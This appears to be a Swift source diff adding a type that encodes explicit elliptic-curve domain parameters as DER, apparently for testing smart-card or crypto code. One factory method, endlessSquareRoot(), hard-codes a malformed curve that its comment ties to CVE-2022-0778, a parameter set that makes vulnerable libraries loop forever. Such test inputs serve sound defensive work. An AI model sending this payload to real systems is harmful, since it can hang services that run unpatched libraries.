@@ -1,0 +1,52 @@
+public import OpenSSLCrypto
+import SmartCard
+
+/// SpecifiedECDomain, version 1, without a seed (TR-03111, 5.1.1): a curve by its numbers, each open to be another than it should.
+public struct SpecifiedDomainRecipe: Sendable, Hashable {
+    /// The prime of the field, big-endian.
+    public var prime: [UInt8]
+    /// The coefficient a, as long as the prime.
+    public var a: [UInt8]
+    /// The coefficient b, as long as the prime.
+    public var b: [UInt8]
+    /// The encoded generator.
+    public var generator: [UInt8]
+    /// The generator's order.
+    public var order: [UInt8]
+    /// The cofactor; nil leaves it out.
+    public var cofactor: UInt32? = 1
+
+    /// The numbers of a known curve.
+    public init(_ curve: NamedCurve) throws {
+        let parameters = try curve.domainParameters()
+        prime = parameters.prime
+        a = parameters.a
+        b = parameters.b
+        generator = parameters.generator
+        order = parameters.order
+    }
+
+    /// The numbers of CVE-2022-0778: the "prime" is none, and a library that takes the square root to decompress the generator
+    /// goes on for ever.
+    public static func endlessSquareRoot() throws -> Self {
+        var domain = try Self(.p256)
+        domain.prime = [0x02, 0xB9]
+        domain.a = [0x00, 0x17]
+        domain.b = [0x02, 0x37]
+        domain.generator = [0x02, 0x00, 0x08]
+        domain.order = [0x02, 0xB9]
+        return domain
+    }
+
+    /// The parameters as DER.
+    public var encoded: [UInt8] {
+        DER.sequence(
+            DER.integer(1),
+            DER.sequence(OID("1.2.840.10045.1.1").encoded, DER.integer(magnitude: prime)),
+            DER.sequence(DER.octetString(a), DER.octetString(b)),
+            DER.octetString(generator),
+            DER.integer(magnitude: order),
+            cofactor.map { DER.integer($0) } ?? []
+        )
+    }
+}
